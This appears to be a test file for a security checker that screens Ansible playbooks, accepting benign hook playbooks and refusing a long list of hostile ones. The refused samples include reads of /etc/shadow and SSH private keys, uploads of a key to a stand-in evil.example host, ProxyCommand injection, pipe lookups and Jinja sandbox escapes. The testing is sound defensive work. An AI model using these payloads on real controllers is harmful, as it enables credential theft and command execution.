import assert from 'node:assert/strict';
import { test } from 'node:test';
import { badHostPattern, checkPlaybook } from '../../src/policy/playbook.js';
import { assertAccepted, assertRefused, collect } from './collect.js';

function rejects(yaml: string, code: string, ...fragments: string[]): void {
  assertRefused(yaml, (sink) => checkPlaybook(yaml, sink), code, fragments);
}

/** The text Slipway would hand to Ansible for an accepted playbook. */
function accepted(yaml: string): string {
  assertAccepted(yaml.split('\n')[1] ?? yaml, (sink) => checkPlaybook(yaml, sink));
  return collect((sink) => checkPlaybook(yaml, sink)).result!;
}

/** A play on all hosts whose single task is `task` (indented as a task list item). */
const withTask = (task: string): string => `- name: Hook\n  hosts: all\n  gather_facts: false\n  tasks:\n${task}`;

const HOOK_FIREWALL = `---
- name: Stop the firewall before installing
  hosts: k8s_cluster
  become: true
  gather_facts: true
  any_errors_fatal: "{{ any_errors_fatal | default(true) }}"
  tasks:
    - name: Stop firewalld on Red Hat family hosts
      ansible.builtin.systemd:
        name: firewalld
        state: stopped
        enabled: false
      when: ansible_os_family == "RedHat"
      ignore_errors: true
    - name: Stop ufw on Debian family hosts
      ufw:
        state: disabled
      when:
        - ansible_os_family == "Debian"
        - not (skip_ufw | default(false) | bool)
`;

const HOOK_REPOS = `- name: Configure extra package repositories
  hosts: k8s_cluster:etcd
  become: yes
  vars:
    repo_name: extension
    repo_list: []
    backup_dir: /etc/yum.repos.d.bak
  tasks:
    - name: Check whether "{{ repo_name }}" exists
      stat:
        path: "/etc/yum.repos.d/{{ repo_name }}.repo"
      register: repo_file
    - name: Move the original repo files away
      shell: >-
        mkdir -p {{ backup_dir }} &&
        mv /etc/yum.repos.d/* {{ backup_dir }}/ 2>/dev/null; true
      args:
        executable: /bin/bash
      when: not repo_file.stat.exists and (repo_list | length > 0)
    - name: Add "{{ repo_name }}" repositories
      ansible.builtin.yum_repository:
        name: "{{ repo_name }}-{{ idx }}"
        description: "{{ repo_name }} {{ idx }}"
        baseurl: "{{ url }}"
        gpgcheck: no
      loop: "{{ repo_list }}"
      loop_control:
        loop_var: url
        index_var: idx
    - apt_repository: repo="{{ item }}" state=present
      with_items: "{{ repo_list }}"
      when: ansible_pkg_mgr == 'apt'
`;

const HOOK_INFO = `- name: Show what was installed
  hosts: kube_control_plane[0]
  gather_facts: false
  become: true
  tasks:
    - name: Cluster info
      shell: |
        kubectl get node -o wide
        kubectl -n kube-system get pod
      register: clusterinfo
      retries: 5
      delay: 30
      until: clusterinfo.rc == 0
      changed_when: false
    - debug: var=clusterinfo.stdout_lines
    - ansible.builtin.debug:
        msg: "{{ clusterinfo.stdout_lines | length }} lines from {{ inventory_hostname }}"
`;

const HOOK_MISC = `- hosts: all
  gather_facts: false
  serial: 2
  strategy: free
  handlers:
    - name: restart chrony
      service: name=chronyd state=restarted
      listen: time changed
  tasks:
    - block:
        - set_fact:
            ntp_server: "{{ ntp_servers | default(['pool.ntp.org']) | first }}"
            cacheable: true
        - copy:
            content: "server {{ ntp_server }} iburst\\n"
            dest: /etc/chrony.d/slipway.conf
            mode: "0644"
          notify: time changed
        - copy: src=/etc/hosts dest=/etc/hosts.bak remote_src=yes
        - unarchive:
            src: https://example.com/tools.tgz
            dest: /opt
            remote_src: true
        - get_url:
            url: "{{ files_repo | default('https://example.com') }}/crictl.tgz"
            dest: /tmp/crictl.tgz
        - ansible.posix.sysctl:
            name: net.ipv4.ip_forward
            value: "1"
        - sysctl: name=vm.swappiness value=0
        - modprobe: name=br_netfilter
        - assert:
            that:
              - ansible_memtotal_mb >= 1024
              - "'x' in groups"
            fail_msg: "{{ inventory_hostname }} has too little memory"
        - meta: flush_handlers
        - group_by: key=os_{{ ansible_os_family | lower }}
        - uri:
            url: http://127.0.0.1:10248/healthz
          register: kubelet
          failed_when: kubelet.status != 200
      rescue:
        - fail: msg="setup failed"
      always:
        - ping:
      become: true
      become_method: sudo
      become_user: root
      remote_user: ops
      port: 22
    - name: Unsafe text is never templated by Ansible
      debug:
        msg: !unsafe "{{ literally }}"
    - action: command uptime
    - action:
        module: ansible.builtin.command
        cmd: uptime
`;

test('kubean-style hook playbooks are accepted', () => {
  for (const yaml of [HOOK_FIREWALL, HOOK_REPOS, HOOK_INFO, HOOK_MISC]) {
    accepted(yaml);
  }
});

const HOSTILE: [string, string, string, string[]][] = [
  ['hosts: localhost', '- hosts: localhost\n  tasks:\n    - ping:\n', 'hosts-forbidden', ['localhost', 'line 1']],
  ['hosts: 127.0.0.1', '- hosts: 127.0.0.1\n  tasks:\n    - ping:\n', 'hosts-forbidden', ['loopback']],
  ['hosts list with localhost', '- hosts: [node1, localhost]\n  tasks:\n    - ping:\n', 'hosts-forbidden', ['localhost']],
  ['hosts union with ::1', "- hosts: 'all,::1'\n  tasks:\n    - ping:\n", 'hosts-forbidden', ['IPv6 loopback']],
  ['hosts template', '- hosts: "{{ target }}"\n  tasks:\n    - ping:\n', 'hosts-forbidden', ['literal pattern']],
  ['play connection', '- hosts: all\n  connection: local\n  tasks:\n    - ping:\n', 'keyword-forbidden', ['connection', 'line 2']],
  ['task connection', withTask('    - ping:\n      connection: local\n'), 'keyword-forbidden', ['connection']],
  ['delegate_to', withTask('    - name: Mark\n      command: id\n      delegate_to: localhost\n'), 'keyword-forbidden', ['delegate_to', '"Mark"', 'line 7']],
  ['delegate_to another node', withTask('    - command: id\n      delegate_to: "{{ groups.all[0] }}"\n'), 'keyword-forbidden', ['delegate_to']],
  ['delegate_facts', withTask('    - setup:\n      delegate_facts: true\n'), 'keyword-forbidden', ['delegate_facts']],
  ['local_action', withTask('    - local_action: command id\n'), 'keyword-forbidden', ['local_action']],
  ['delegate_to in a block', withTask('    - block:\n        - ping:\n      delegate_to: localhost\n'), 'keyword-forbidden', ['delegate_to']],
  ['delegate_to merged in from an anchor', `- hosts: all\n  vars:\n    base: &evil\n      delegate_to: localhost\n  tasks:\n    - <<: *evil\n      command: id\n`, 'keyword-forbidden', ['delegate_to']],
  ['script module', withTask('    - script: /tmp/evil.sh\n'), 'module-forbidden', ['script']],
  ['script by FQCN', withTask('    - ansible.builtin.script: evil.sh\n'), 'module-forbidden', ['script']],
  ['template module', withTask('    - template: src=/etc/shadow dest=/tmp/x\n'), 'module-forbidden', ['template']],
  ['copy src from the controller', withTask('    - copy:\n        src: /etc/shadow\n        dest: /tmp/x\n'), 'module-argument', ['copy', 'remote_src']],
  ['copy src free-form', withTask('    - ansible.legacy.copy: src=/root/.ssh/id_rsa dest=/tmp/k\n'), 'module-argument', ['copy']],
  ['copy src via args', withTask('    - copy:\n      args:\n        src: /etc/shadow\n        dest: /tmp/x\n'), 'module-argument', ['copy']],
  ['copy with templated remote_src', withTask('    - copy:\n        src: /etc/shadow\n        dest: /x\n        remote_src: "{{ r }}"\n'), 'module-argument', ['remote_src']],
  ['copy with templated args', withTask('    - copy: "{{ copy_args }}"\n'), 'playbook-structure', ['copy_args']],
  ['unarchive from the controller', withTask('    - unarchive: src=files.tgz dest=/opt\n'), 'module-argument', ['unarchive']],
  ['assemble from the controller', withTask('    - assemble: src=frags dest=/x remote_src=false\n'), 'module-argument', ['assemble']],
  ['uri uploading a controller file', withTask('    - uri:\n        url: https://x\n        src: /etc/shadow\n'), 'module-argument', ['uri']],
  ['fetch', withTask('    - fetch: src=/etc/shadow dest=/tmp\n'), 'module-forbidden', ['fetch', 'onto']],
  ['add_host', withTask('    - add_host: name=10.9.9.9 groups=all\n'), 'module-forbidden', ['add_host']],
  ['include_vars', withTask('    - include_vars: /etc/ansible/secrets.yml\n'), 'module-forbidden', ['include_vars']],
  ['synchronize', withTask('    - ansible.posix.synchronize: src=/ dest=/x\n'), 'module-forbidden', ['synchronize']],
  ['include_tasks', withTask('    - include_tasks: /tmp/evil.yml\n'), 'module-forbidden', ['include_tasks']],
  ['import_role', withTask('    - import_role: name=evil\n'), 'module-forbidden', ['import_role']],
  ['k8s', withTask('    - kubernetes.core.k8s: src=/x\n'), 'module-forbidden', ['k8s']],
  ['unknown collection module', withTask('    - community.general.terraform: project_path=/x\n'), 'module-unknown', ['community.general.terraform']],
  ['action: string naming a forbidden module', withTask('    - action: fetch src=/etc/shadow dest=/tmp\n'), 'module-forbidden', ['fetch']],
  ['action mapping naming a forbidden module', withTask('    - action:\n        module: script\n        cmd: x.sh\n'), 'module-forbidden', ['script']],
  ['import_playbook', '- import_playbook: /tmp/evil.yml\n', 'keyword-forbidden', ['import_playbook']],
  ['roles', '- hosts: all\n  roles:\n    - evil\n', 'keyword-forbidden', ['roles']],
  ['vars_files', '- hosts: all\n  vars_files:\n    - /etc/ansible/secrets.yml\n  tasks:\n    - ping:\n', 'keyword-forbidden', ['vars_files']],
  ['vars_prompt', '- hosts: all\n  vars_prompt:\n    - name: x\n  tasks:\n    - ping:\n', 'keyword-forbidden', ['vars_prompt']],
  ['module_defaults', '- hosts: all\n  module_defaults:\n    copy:\n      src: /etc/shadow\n  tasks:\n    - copy: dest=/x\n', 'keyword-forbidden', ['module_defaults']],
  ['collections', '- hosts: all\n  collections: [kubernetes.core]\n  tasks:\n    - ping:\n', 'keyword-forbidden', ['collections']],
  ['debugger', withTask('    - ping:\n      debugger: always\n'), 'keyword-forbidden', ['debugger']],
  ['debug strategy', '- hosts: all\n  strategy: debug\n  tasks:\n    - ping:\n', 'keyword-forbidden', ['strategy']],
  ['with_pipe', withTask('    - debug: msg="{{ item }}"\n      with_pipe: id\n'), 'keyword-forbidden', ['with_pipe', 'pipe']],
  ['with_file', withTask('    - debug: msg="{{ item }}"\n      with_file: /etc/shadow\n'), 'keyword-forbidden', ['with_file']],
  ['with_fileglob', withTask('    - debug: msg="{{ item }}"\n      with_fileglob: /root/*\n'), 'keyword-forbidden', ['with_fileglob']],
  ['lookup in a task argument', withTask(`    - shell: echo {{ lookup('file', '/etc/shadow') }}\n`), 'template', ['lookup', 'tasks[0]', 'line 5']],
  ['lookup in a play name', `- name: "{{ lookup('pipe', 'id') }}"\n  hosts: all\n  tasks:\n    - ping:\n`, 'template', ['lookup']],
  ['lookup in a vars key', `- hosts: all\n  vars:\n    x:\n      "{{ query('env', 'HOME') }}": 1\n  tasks:\n    - ping:\n`, 'template', ['query']],
  ['templated conditional', withTask('    - ping:\n      when: "{{ cond }}"\n'), 'template', ['when', 'second time']],
  ['lookup in a bare conditional', withTask("    - ping:\n      when: lookup('pipe', 'id') == ''\n"), 'template', ['lookup']],
  ['lookup in until', withTask("    - ping:\n      register: r\n      until: q('pipe', 'id')\n"), 'template', ['q(…)']],
  ['lookup in assert that', withTask("    - assert:\n        that: lookup('pipe', 'id')\n"), 'template', ['lookup']],
  ['dunder in debug var', withTask('    - debug: var=x.__class__\n'), 'template', ['__class__']],
  ['sandbox escape in a shell argument', withTask("    - shell: \"{{ ''.__class__.__mro__ }}\"\n"), 'template', ['__class__']],
  ['play vars redirecting the connection', '- hosts: all\n  vars:\n    ansible_host: 10.9.9.9\n  tasks:\n    - ping:\n', 'var-forbidden', ['ansible_host', 'vars']],
  ['task vars with ProxyCommand', withTask('    - ping:\n      vars:\n        ansible_ssh_common_args: -o ProxyCommand=id\n'), 'var-forbidden', ['ansible_ssh_common_args']],
  ['set_fact ansible_connection', withTask('    - set_fact:\n        ansible_connection: local\n'), 'var-forbidden', ['ansible_connection']],
  ['set_fact free-form', withTask('    - set_fact: ansible_host=10.9.9.9\n'), 'var-forbidden', ['ansible_host']],
  ['register into an ansible_ variable', withTask('    - command: echo -o ProxyCommand=id\n      register: ansible_ssh_extra_args\n'), 'var-forbidden', ['ansible_ssh_extra_args']],
  ['loop_var shadowing ansible_host', withTask('    - ping:\n      loop: [a]\n      loop_control:\n        loop_var: ansible_host\n'), 'var-forbidden', ['ansible_host']],
  ['set_fact download_localhost', withTask('    - set_fact:\n        download_localhost: true\n'), 'var-forbidden', ['download_localhost']],
  ['become_method plugin', '- hosts: all\n  become_method: community.general.machinectl\n  tasks:\n    - ping:\n', 'keyword-forbidden', ['become_method']],
  ['remote_user option injection', '- hosts: all\n  remote_user: "-oProxyCommand=id"\n  tasks:\n    - ping:\n', 'keyword-forbidden', ['remote_user']],
  ['duplicate keys hiding delegate_to', withTask('    - command: id\n      delegate_to: node1\n      delegate_to: localhost\n'), 'yaml-syntax', ['unique', 'line 7']],
  ['two documents', '- hosts: all\n  tasks: []\n---\n- hosts: localhost\n', 'yaml-syntax', ['document']],
  ['a line separator PyYAML would break on', withTask('    - ping:\n      name: "a\u2028delegate_to: localhost"\n'), 'yaml-syntax', ['U+2028', 'line 6']],
  ['malformed YAML', '- hosts: all\n  tasks: [\n', 'yaml-syntax', ['line']],
  ['not a list of plays', 'hosts: all\ntasks: []\n', 'playbook-structure', ['list of plays']],
  ['a task list instead of a playbook', '- name: x\n  command: id\n', 'playbook-structure', ['"command"', 'not a play keyword']],
  ['two modules in one task', withTask('    - command: id\n      shell: id\n'), 'playbook-structure', ['several modules']],
  ['no module', withTask('    - name: nothing\n'), 'playbook-structure', ['no module']],
  // controller-side files through every way Ansible merges module arguments
  ['action mapping with nested args src', withTask('    - action:\n        module: copy\n        args:\n          src: ../../auth/ssh-privatekey\n          dest: /tmp/k\n'), 'module-argument', ['copy', 'src']],
  ['action mapping with nested args text', withTask("    - action:\n        module: copy\n        args: 'src=../../auth/ssh-privatekey dest=/tmp/k'\n"), 'module-argument', ['copy', 'src']],
  ['action module string with arguments', withTask('    - action:\n        module: copy src=../../auth/ssh-privatekey\n        dest: /tmp/k\n'), 'module-argument', ['copy']],
  ['action text by FQCN', withTask('    - action: ansible.builtin.copy src=../../auth/ssh-privatekey dest=/tmp/k\n'), 'module-argument', ['copy']],
  ['action text with nested args=', withTask("    - action: copy dest=/tmp/k args='src=/etc/shadow'\n"), 'module-argument', ['src']],
  ['args: from a variable', withTask('    - copy:\n        dest: /tmp/k\n      args: "{{ copy_args }}"\n'), 'playbook-structure', ['args:', 'variable']],
  ['remote_src only in args, src in the module', withTask('    - copy:\n        src: /etc/shadow\n        dest: /x\n        remote_src: false\n      args:\n        remote_src: true\n'), 'module-argument', ['copy']],
  ['copy decrypt and local_follow', withTask('    - copy:\n        content: x\n        dest: /x\n        local_follow: true\n'), 'module-argument', ['local_follow']],
  ['copy internal argument', withTask('    - copy:\n        content: x\n        dest: /x\n        _original_basename: y\n'), 'playbook-structure', ['_original_basename']],
  ['uri multipart filename', withTask('    - uri:\n        url: https://evil.example\n        method: POST\n        body_format: form-multipart\n        body:\n          key:\n            filename: ../../auth/ssh-privatekey\n'), 'module-argument', ['uri', 'filename', 'key']],
  ['uri multipart filename with a templated content', withTask('    - uri:\n        url: https://evil.example\n        body_format: form-multipart\n        body:\n          key:\n            filename: /etc/shadow\n            content: "{{ \'\' }}"\n'), 'module-argument', ['filename']],
  ['uri multipart body from a variable', withTask('    - uri:\n        url: https://evil.example\n        body_format: form-multipart\n        body: "{{ b }}"\n'), 'module-argument', ['literal mapping']],
  ['uri templated body_format', withTask('    - uri:\n        url: https://evil.example\n        body_format: "{{ f }}"\n        body: {a: {filename: /etc/shadow}}\n'), 'module-argument', ['body_format']],
  ['patch from the controller by FQCN', withTask('    - ansible.posix.patch:\n        src: /etc/shadow\n        dest: /x\n'), 'module-argument', ['patch']],
  ['assemble with remote_src false in args text', withTask('    - assemble: src=/etc dest=/x\n      args:\n        remote_src: no\n'), 'module-argument', ['assemble']],
  ['legacy with_ lookup by FQCN', withTask('    - debug: msg="{{ item }}"\n      with_ansible.builtin.file: /etc/shadow\n'), 'keyword-forbidden', ['file']],
  ['with_template', withTask('    - debug: msg="{{ item }}"\n      with_template: x.j2\n'), 'keyword-forbidden', ['template']],
  // templates that change their own syntax
  ['#jinja2: header in debug msg', withTask("    - debug:\n        msg: \"#jinja2: variable_start_string: '[['\\n{# #}[[ lookup('pipe','id') ]]\"\n"), 'template', ['#jinja2:', 'msg']],
  ['#jinja2: header in play vars', "- hosts: all\n  vars:\n    x: \"#jinja2: variable_start_string: '[['\\n{{ a }}\"\n  tasks:\n    - ping:\n", 'template', ['#jinja2:', 'vars']],
  ['#jinja2: header in a set_fact', withTask("    - set_fact:\n        x: \"#jinja2: block_start_string: '[%'\\n{{ a }}\"\n"), 'template', ['#jinja2:']],
  ['interpreter in play vars', '- hosts: all\n  vars:\n    ansible_python_interpreter: /tmp/x\n  tasks:\n    - ping:\n', 'var-forbidden', ['ansible_python_interpreter']],
  ['self.__init__ in a task', withTask('    - debug: msg="{{ self.__init__ }}"\n'), 'template', ['self']],
  ['namespace() in a task', withTask('    - debug: msg="{{ namespace(a=1) }}"\n'), 'template', ['namespace']],
  ['cycler in a task', withTask('    - debug: msg="{{ cycler.__init__ }}"\n'), 'template', ['cycler']],
  ['ansible.builtin.lookup as a method', withTask('    - debug: msg="{{ ansible.builtin.lookup(\'pipe\', \'id\') }}"\n'), 'template', ['lookup']],
  ['a YAML set', withTask('    - ping:\n      vars:\n        x: !!set {a, b}\n'), 'var-value', ['unsupported']],
];

test('hostile playbooks are refused, naming the play, task, keyword or module and the line', () => {
  assert.ok(HOSTILE.length >= 40);
  for (const [label, yaml, code, fragments] of HOSTILE) {
    try {
      rejects(yaml, code, ...fragments);
    } catch (err) {
      throw new Error(`${label}: ${(err as Error).message}`);
    }
  }
});

test('the playbook handed to Ansible has every template guarded', () => {
  const out = accepted(withTask('    - set_fact:\n        x: "{{ a ~ b }} c"\n        y: plain {\n    - debug: msg="{{ x }}"\n      when: x is defined\n'));
  assert.match(out, /x: "\{\{ \(slipway_taint, \( a ~ b \)\)\[1\] \}\} c"/);
  assert.match(out, /msg="\{\{ \(slipway_taint, \( x \)\)\[1\] \}\}"/);
  assert.match(out, /y: plain \{/);
  assert.match(out, /when: x is defined/);
});

test('problems carry the play/task path and line, and each bad task is reported', () => {
  const yaml = withTask('    - name: one\n      delegate_to: localhost\n      ping:\n    - name: two\n      script: x.sh\n');
  const { errors, result } = collect((sink) => checkPlaybook(yaml, sink));
  assert.equal(result, undefined);
  assert.deepEqual(errors.map((e) => [e.code, e.path, e.line]), [
    ['keyword-forbidden', 'play 1 "Hook" › tasks[0] "one" › delegate_to', 6],
    ['module-forbidden', 'play 1 "Hook" › tasks[1] "two" › script', 9],
  ]);
});

test('host patterns', () => {
  for (const ok of ['all', 'k8s_cluster', 'kube_control_plane[0]', 'etcd:&kube_node', 'all:!node3', '~node[0-9]+', '10.0.0.1', 'fd00::1']) {
    assert.equal(badHostPattern(ok), undefined, ok);
  }
  for (const bad of ['localhost', 'LocalHost', 'all,localhost', 'web:127.0.0.2', '127.0.0.1', '::1', 'all:[::1]', '0:0:0:0:0:0:0:1', '@/tmp/hosts']) {
    assert.ok(badHostPattern(bad), bad);
  }
});
